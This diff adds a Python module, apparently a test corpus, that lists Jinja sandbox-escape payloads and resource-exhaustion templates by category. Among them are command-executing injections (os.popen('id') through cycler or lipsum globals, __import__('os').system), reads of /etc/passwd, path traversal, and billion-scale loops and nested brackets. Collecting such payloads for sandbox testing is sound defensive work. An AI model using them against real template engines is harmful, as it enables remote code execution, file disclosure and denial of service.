@@ -1,0 +1,163 @@
+"""Ways out of a Jinja sandbox, and ways to keep it busy for ever, as they are known.
+
+`NAME` stands for a name that the template knows. Each is a whole template.
+"""
+
+from typing import Final
+
+_WALKS = {
+    "class of a text": "{{ ''.__class__ }}",
+    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "bases of a tuple": "{{ ().__class__.__bases__[0].__subclasses__() }}",
+    "item instead of attribute": "{{ ''['__class__'] }}",
+    "item of an item": "{{ NAME['__class__']['__mro__'] }}",
+    "class of a known value": "{{ NAME.__class__.__init__.__globals__ }}",
+    "dict of a value": "{{ NAME.__dict__ }}",
+    "reduce": "{{ NAME.__reduce__ }}",
+    "escaped underscores": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
+    "underscores as unicode": "{{ ''['\\u005f\\u005fclass__'] }}",
+    "underscores by octal": "{{ ''['\\137\\137class__'] }}",
+    "joined name": "{{ ''['__cla' ~ 'ss__'] }}",
+    "added name": "{{ ''['__cla' + 'ss__'] }}",
+    "name in a list": "{{ ''[['__class__'] | first] }}",
+    "reversed name": "{{ ''['__ssalc__'[::-1]] }}",
+    "full-width underscores": "{{ ''.\uff3f\uff3fclass\uff3f\uff3f }}",
+    "method": "{{ NAME.upper() }}",
+    "method without call": "{{ NAME.upper }}",
+    "format method": "{{ '{0.__class__}'.format(NAME) }}",
+    "format method by item": "{{ '{0.__class__}'['format'](NAME) }}",
+    "format_map": "{{ '{a.__class__}'.format_map({'a': NAME}) }}",
+    "percent format": "{{ '%s' % NAME }}",
+    "percent format with room": "{{ '%1000000000d' % 1 }}",
+    "private name": "{{ _ }}",
+    "dunder name": "{{ __builtins__ }}",
+}
+_GLOBALS = {
+    "self": "{{ self }}",
+    "self init": "{{ self.__init__.__globals__ }}",
+    "self template reference": "{{ self._TemplateReference__context }}",
+    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "cycler call": "{{ cycler('a').next() }}",
+    "joiner": "{{ joiner.__init__.__globals__ }}",
+    "joiner call": "{{ joiner(', ') }}",
+    "lipsum": "{{ lipsum(100000, html=False) }}",
+    "lipsum globals": "{{ lipsum.__globals__['os'].system('id') }}",
+    "namespace": "{{ namespace(a=1) }}",
+    "namespace init": "{{ namespace.__init__.__globals__ }}",
+    "dict": "{{ dict(a=1) }}",
+    "config": "{{ config.items() }}",
+    "request": "{{ request.application.__globals__ }}",
+    "url_for": "{{ url_for.__globals__ }}",
+    "get_flashed_messages": "{{ get_flashed_messages.__globals__ }}",
+    "open": "{{ open('/etc/passwd').read() }}",
+    "eval": "{{ eval('1') }}",
+    "import function": "{{ __import__('os').system('id') }}",
+    "context": "{{ context.environment }}",
+    "environment": "{{ environment }}",
+    "caller": "{{ caller() }}",
+    "varargs": "{{ varargs }}",
+    "debug": "{{ debug() }}",
+}
+_FILTERS = {
+    "attr": "{{ NAME | attr('__class__') }}",
+    "attr twice": "{{ '' | attr('__class__') | attr('__mro__') }}",
+    "attr of escapes": "{{ '' | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+    "map attribute": "{{ [NAME] | map(attribute='__class__') | list }}",
+    "map filter": "{{ [NAME] | map('attr', '__class__') | list }}",
+    "format filter with room": "{{ '%1000000000d' | format(1) }}",
+    "format filter with star": "{{ '%*d' | format(1000000000, 1) }}",
+    "format filter digits": "{{ '%.1000000000f' | format(1) }}",
+    "center": "{{ 'a' | center(1000000000) }}",
+    "indent": "{{ 'a\\nb' | indent(1000000000) }}",
+    "replace": "{{ NAME | replace('', 'a' ~ NAME) }}",
+    "wordwrap": "{{ NAME | wordwrap(1, wrapstring=NAME) }}",
+    "pprint": "{{ NAME | pprint }}",
+    "tojson": "{{ NAME | tojson }}",
+    "safe": "{{ '<b>' | safe }}",
+    "xmlattr": "{{ {'a': NAME} | xmlattr }}",
+    "groupby": "{{ [NAME] | groupby('__class__') }}",
+    "sort": "{{ [NAME] | sort(attribute='__class__') }}",
+    "select": "{{ [NAME] | select('defined') | list }}",
+    "sum": "{{ [[NAME]] | sum(start=[]) }}",
+    "batch": "{{ [1] | batch(1000000000, 'x') | list }}",
+    "slice": "{{ [1] | slice(1000000000) | list }}",
+    "random": "{{ [1, 2] | random }}",
+    "urlize": "{{ 'http://a' | urlize }}",
+    "unknown": "{{ NAME | khong_co }}",
+    "star of a filter": "{{ NAME | join(*NAME) }}",
+    "two stars of a filter": "{{ NAME | first(**NAME) }}",
+    "filter tag": "{% filter attr('__class__') %}a{% endfilter %}",
+    "test": "{{ NAME is sameas(NAME) }}",
+    "test with star": "{{ NAME is divisibleby(*NAME) }}",
+}
+_STATEMENTS = {
+    "include": "{% include '/etc/passwd' %}",
+    "include above": "{% include '../../don_vi.yaml' %}",
+    "include of a list": "{% include ['a', 'b'] ignore missing %}",
+    "import": "{% import '/etc/passwd' as a %}",
+    "from import": "{% from '../a' import b %}",
+    "extends": "{% extends '/etc/passwd' %}",
+    "extends computed": "{% extends NAME %}",
+    "macro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
+    "macro globals": "{% macro a() %}{% endmacro %}{{ a.__globals__ }}",
+    "call block": "{% call NAME() %}a{% endcall %}",
+    "set of an attribute": "{% set a.b = 1 %}",
+    "set of a walk": "{% set a = ''.__class__ %}{{ a }}",
+    "namespace and set": "{% set n = namespace(a=1) %}{% set n.a = 2 %}",
+    "with": "{% with a = ''.__class__ %}{{ a }}{% endwith %}",
+    "do": "{% do NAME.append(1) %}",
+    "debug": "{% debug %}",
+    "autoescape": "{% autoescape false %}{{ NAME }}{% endautoescape %}",
+    "trans": "{% trans %}a{% endtrans %}",
+    "continue": "{% for a in NAME %}{% continue %}{% endfor %}",
+    "recursive loop": "{% for a in [[1]] recursive %}{{ loop(a) }}{% endfor %}",
+    "loop method": "{% for a in NAME %}{{ loop.cycle('a', 'b') }}{% endfor %}",
+    "loop inside": "{% for a in NAME %}{{ loop.__init__ }}{% endfor %}",
+    "walk after a comment": "{# a #}{{ ''.__class__ }}{# b #}",
+    "walk after raw text": "{% raw %}{{ a }}{% endraw %}{{ ''.__class__ }}",
+    "walk in a test": "{% if ''.__class__ %}a{% endif %}",
+    "walk in a loop": "{% for a in ''.__class__.__mro__ %}{{ a }}{% endfor %}",
+    "walk in a filter of a loop": "{% for a in [1] if ''.__class__ %}{{ a }}{% endfor %}",
+    "walk in an else": "{{ 1 if true else ''.__class__ }}",
+    "tag left open": "{{ ''.__class__",
+}
+_BOMBS = {
+    "range": "{% for a in range(10**9) %}a{% endfor %}",
+    "range without power": "{% for a in range(1000000000) %}a{% endfor %}",
+    "text multiplied": "{{ 'a' * 1000000000 }}",
+    "text multiplied from behind": "{{ 1000000000 * 'a' }}",
+    "list multiplied": "{{ [1] * 1000000000 }}",
+    "power": "{{ 10 ** 10 ** 10 }}",
+    "power of small numbers": "{{ 9 ** 999999 }}",
+    "shift by floor division": "{{ 7 // 0 }}",
+    "deep brackets": "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}",
+    "deep lists": "{{ " + "[" * 20_000 + "]" * 20_000 + " }}",
+    "long sum": "{{ 1" + " + 1" * 20_000 + " }}",
+    "long negation": "{{ " + "not " * 20_000 + "1 }}",
+    "long minus": "{{ " + "-" * 20_000 + "1 }}",
+    "many digits": "{{ " + "9" * 100_000 + " }}",
+    "many tags within each other": "{% if 1 %}" * 5_000 + "{% endif %}" * 5_000,
+    "many loops within each other": "".join(
+        f"{{% for a{n} in [1, 2, 3, 4, 5, 6, 7, 8, 9] %}}" for n in range(30)
+    )
+    + "x"
+    + "{% endfor %}" * 30,
+    "text doubled by set": "{% set a = 'aaaaaaaa' %}" + "{% set a = a ~ a %}" * 60 + "{{ a }}",
+    "text doubled by a block": "{% set a %}aaaaaaaa{% endset %}"
+    + "{% set a %}{{ a }}{{ a }}{% endset %}" * 60
+    + "{{ a }}",
+    "list doubled": "{% for a0 in [[1, 1]] %}"
+    + "".join(f"{{% for a{n + 1} in [[a{n}, a{n}]] %}}" for n in range(40))
+    + "{{ a40 }}"
+    + "{% endfor %}" * 41,
+}
+KINDS: Final = {
+    "walks": _WALKS,
+    "globals": _GLOBALS,
+    "filters": _FILTERS,
+    "statements": _STATEMENTS,
+    "bombs": _BOMBS,
+}
+ESCAPES: Final = {
+    f"{kind}: {name}": source for kind, those in KINDS.items() for name, source in those.items()
+}
